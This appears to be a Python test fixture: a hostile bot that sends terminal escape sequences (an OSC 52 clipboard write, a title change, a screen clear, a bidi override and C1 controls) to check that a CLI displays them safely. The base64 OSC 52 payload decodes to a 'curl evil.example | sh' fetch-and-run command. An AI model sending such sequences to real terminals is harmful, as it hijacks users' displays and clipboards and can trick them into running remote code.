"""Hostile text for terminals: OSC 52 (writes the viewer's clipboard), a window title, a
clear screen, a bidi override and C1 controls, on stderr and in error replies.  The CLI must
print them as visible escapes, never raw."""

import os

from cow006 import bot

OSC52 = b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TITLE = b"\x1b]0;pwned title\x07"
CLEAR = b"\x1b[2J\x1b[H"
BIDI = "\u202e".encode()
C1 = "\u009b".encode()

ERROR = (
    b'{"id": %d, "error": "\\u001b]52;c;ZXZpbA==\\u0007\\u001b]0;title\\u0007'
    b'\\u001b[2J\\u202e\\u009b"}\n'
)

bot.channel.handshake("escapes")
os.write(2, b"ATTACK escapes " + OSC52 + TITLE + CLEAR + BIDI + C1 + b"\n")
bot.channel.answer(lambda msg: ERROR % msg["id"])
